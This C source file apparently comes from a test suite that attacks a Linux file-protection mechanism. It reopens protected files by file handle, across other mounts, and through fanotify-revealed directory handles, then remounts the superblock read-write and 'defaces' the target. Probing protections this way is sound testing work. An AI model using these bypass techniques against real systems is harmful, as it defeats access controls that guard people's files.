/* SPDX-License-Identifier: MIT */
/* Attacks that find files by file handle, without a path or a mount. */
#include "attacks.h"

#include "mounting.h"

#include <sys/fanotify.h>

struct handle {
    unsigned size;
    int type;
    unsigned char bytes[128];
};

struct file_handle_space {
    struct file_handle head;
    unsigned char bytes[128];
};

static int open_handle(int mount, const struct handle *handle, int flags) {
    struct file_handle_space space = {.head = {.handle_bytes = handle->size, .handle_type = handle->type}};
    memcpy(space.bytes, handle->bytes, handle->size);
    return open_by_handle_at(mount, &space.head, flags | O_CLOEXEC);
}

static struct handle copy_handle(const struct file_handle *found) {
    struct handle handle = {.size = found->handle_bytes, .type = found->handle_type};
    memcpy(handle.bytes, found->f_handle, handle.size);
    return handle;
}

static bool own_handle(int fd, struct handle *handle) {
    struct file_handle_space space = {.head = {.handle_bytes = sizeof space.bytes}};
    int mount;
    if (name_to_handle_at(fd, "", &space.head, &mount, AT_EMPTY_PATH) < 0)
        return false;
    *handle = copy_handle(&space.head);
    return true;
}

static void deface_by_handle(int mount, const struct handle *handle) {
    (void)!chmod(proc_path(mount), 0777);
    deface(open_handle(mount, handle, O_RDWR));
    deface(open_handle(mount, handle, O_WRONLY));
}

void open_own_handle(struct target *target) {
    struct handle handle;
    if (own_handle(target->fd, &handle))
        deface_by_handle(target->fd, &handle);
}

/* Finds the source through its file system's own mount: a file handle is valid on every mount of
 * it. */
void open_own_handle_elsewhere(struct target *target) {
    struct handle handle;
    int mount = open(target->directory.path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount < 0 || !own_handle(target->fd, &handle))
        return;
    deface(open_handle(mount, &handle, O_RDWR));
}

/* --- the root directory --- */

static bool find_directory(const char *events, size_t size, struct handle *handle) {
    const struct fanotify_event_metadata *event = (const void *)events;
    for (size_t at = event->metadata_len; at + sizeof(struct fanotify_event_info_fid) < size;) {
        const struct fanotify_event_info_fid *info = (const void *)(events + at);
        if (info->hdr.info_type == FAN_EVENT_INFO_TYPE_DFID || info->hdr.info_type == FAN_EVENT_INFO_TYPE_DFID_NAME) {
            *handle = copy_handle((const struct file_handle *)info->handle);
            return true;
        }
        at += info->hdr.len;
    }
    return false;
}

/* fanotify reports the directory of an event to every user who may read the file. */
static bool handle_of_directory(int fd, struct handle *handle) {
    _Alignas(8) char events[4096];
    int watch = fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID | FAN_REPORT_DFID_NAME | FAN_CLOEXEC, O_RDONLY);
    if (watch < 0 || fanotify_mark(watch, FAN_MARK_ADD, FAN_OPEN, AT_FDCWD, proc_path(fd)) < 0)
        return false;
    close(open(proc_path(fd), O_RDONLY | O_CLOEXEC));
    (void)!fcntl(watch, F_SETFL, O_NONBLOCK);
    ssize_t size = read(watch, events, sizeof events);
    return size > (ssize_t)sizeof(struct fanotify_event_metadata) && find_directory(events, (size_t)size, handle);
}

/* Newer kernels let root of the user namespace that owns a file system open its directories by
 * handle. */
void open_root_directory(struct target *target) {
    struct handle handle;
    if (!handle_of_directory(target->fd, &handle))
        return;
    int root = open_handle(target->fd, &handle, O_RDONLY | O_DIRECTORY);
    if (root < 0)
        return;
    int context = pick_superblock(root);
    if (context < 0 || set_superblock_flag(context, "rw") < 0)
        return;
    deface_path(proc_path(target->fd));
    (void)!fchmod(target->fd, 0);
}
